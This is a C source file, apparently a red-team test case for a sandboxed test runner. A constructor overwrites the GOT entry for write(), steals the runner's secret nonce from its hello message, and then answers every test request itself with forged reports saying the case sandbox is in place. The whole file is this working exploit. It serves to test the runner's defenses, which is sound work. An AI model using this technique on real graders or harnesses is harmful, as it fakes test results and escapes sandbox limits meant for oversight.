/* A constructor takes over the runner with protocol.h's records, whole: it
 * lets the runtime say hello, learns the runner's secret (nonce) from that
 * hello on its way out, then answers every request in-process, correctly
 * and at once, with a report claiming the case child's sandbox was in place
 * (GR_CASE_READY).  No test runs in a case child, under its filter and
 * limits.  The secret is no obstacle to native code in the runner's
 * process: the constructor rewrites the GOT slot of write() (mprotect of
 * the RELRO page is allowed; no code is made executable), through which
 * the runtime sends its hello.  Issue 29: "answer tests itself"; the twin
 * of py-takeover-answer, which pure Python cannot do (it cannot read the
 * secret).  Red team of 32f7ced, reworked once the secret came in. */
#include <link.h>
#include <stdint.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
struct hello { uint32_t magic, nfunctions; uint64_t present; uint32_t filtered, pid, load_kind, startup_len;
	uint64_t startup_total; uint32_t detail_len, pad; uint64_t nonce; };
struct request { uint32_t magic, size, case_id, function, cpu_ms, memory_mb, output_kb, pad; };
struct report { uint32_t magic, case_id; int32_t wait_status; uint32_t flags; int64_t answer;
	uint64_t cpu_us, maxrss_kb, output_total, nomem_bytes; int32_t syscall_nr; uint32_t output_kept, value_kind, detail_len, stop_signal, pad;
	uint64_t nonce; };
extern ElfW(Dyn) _DYNAMIC[];
static int rd(void *b, size_t n)
{
	char *p = b;
	while (n) {
		long k = syscall(SYS_read, 3, p, n);
		if (k <= 0)
			return -1;
		p += k;
		n -= (size_t)k;
	}
	return 0;
}
static void take_over(uint64_t nonce)
{
	for (;;) {
		struct request rq;
		static unsigned char buf[1 << 16];
		int64_t v;
		struct report r;
		if (rd(&rq, sizeof rq) || rq.size > sizeof buf || rd(buf, rq.size))
			syscall(SYS_exit_group, 0);
		memcpy(&v, buf + 1, 8);
		memset(&r, 0, sizeof r);
		r.magic = 0x50455247u;
		r.case_id = rq.case_id;
		r.flags = 1 | 64;
		r.answer = 2 * v;
		r.cpu_us = 1000;
		r.nonce = nonce;
		if (syscall(SYS_write, 4, &r, sizeof r) < 0)
			syscall(SYS_exit_group, 0);
	}
}
/* the runtime's write(): its hello carries the secret; forwarded, then the runner is ours */
static ssize_t hooked_write(int fd, const void *buf, size_t n)
{
	long done = syscall(SYS_write, fd, buf, n);
	if (fd == 4 && n >= sizeof(struct hello) && *(const uint32_t *)buf == 0x4f4c4548u) {
		struct hello h;
		memcpy(&h, buf, sizeof h);
		take_over(h.nonce);
	}
	return done;
}
__attribute__((constructor)) static void hook(void)
{
	const ElfW(Phdr) *ph = (const ElfW(Phdr) *)getauxval(AT_PHDR);
	uintptr_t base = 0, jmprel = 0, rela = 0, symtab = 0, strtab = 0, relasz = 0, pltsz = 0;
	for (unsigned long i = 0; i < getauxval(AT_PHNUM); i++)
		if (ph[i].p_type == PT_PHDR)
			base = (uintptr_t)ph - ph[i].p_vaddr;
	for (ElfW(Dyn) *d = _DYNAMIC; d->d_tag != DT_NULL; d++) {
		uintptr_t p = d->d_un.d_ptr < base ? base + d->d_un.d_ptr : d->d_un.d_ptr;
		switch (d->d_tag) {
		case DT_JMPREL: jmprel = p; break;
		case DT_RELA: rela = p; break;
		case DT_SYMTAB: symtab = p; break;
		case DT_STRTAB: strtab = p; break;
		case DT_PLTRELSZ: pltsz = d->d_un.d_val; break;
		case DT_RELASZ: relasz = d->d_un.d_val; break;
		}
	}
	for (int t = 0; t < 2; t++) {
		const ElfW(Rela) *r = (const ElfW(Rela) *)(t ? rela : jmprel);
		size_t n = (t ? relasz : pltsz) / sizeof(*r);
		for (size_t i = 0; r && i < n; i++) {
			const ElfW(Sym) *sym = (const ElfW(Sym) *)symtab + ELF64_R_SYM(r[i].r_info);
			if (ELF64_R_SYM(r[i].r_info) && !strcmp((const char *)strtab + sym->st_name, "write")) {
				uintptr_t slot = base + r[i].r_offset;
				mprotect((void *)(slot & ~(uintptr_t)4095), 4096, PROT_READ | PROT_WRITE);
				*(void **)slot = (void *)hooked_write;
			}
		}
	}
}
long long twice(long long x) { return 2 * x; }
